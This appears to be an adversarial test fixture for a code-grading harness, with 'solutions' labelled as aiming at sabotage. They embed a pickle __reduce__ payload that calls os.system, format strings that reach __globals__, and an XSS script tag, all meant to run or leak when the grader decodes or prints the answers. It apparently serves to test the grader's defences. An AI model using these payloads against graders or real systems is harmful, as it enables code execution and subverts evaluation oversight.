# Tries: to have a payload executed by whoever decodes, prints or formats its answer.
# Earns: nothing
# Goal: sabotage

# %%
import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("echo ESCAPED > /tmp/planted",)

    def __repr__(self):
        return "{0.__class__.__init__.__globals__}"

    __str__ = __format__ = __repr__


# %% solution="psi"
def psi(p, q):
    return pickle.dumps(Payload())


# %% solution="describe"
def describe(frame):
    return "{0.__class__}" if "secret" in frame else "<script>alert(1)</script>"


# %% solution="model"
class Model:
    def fit(self, X, y):
        return Payload()
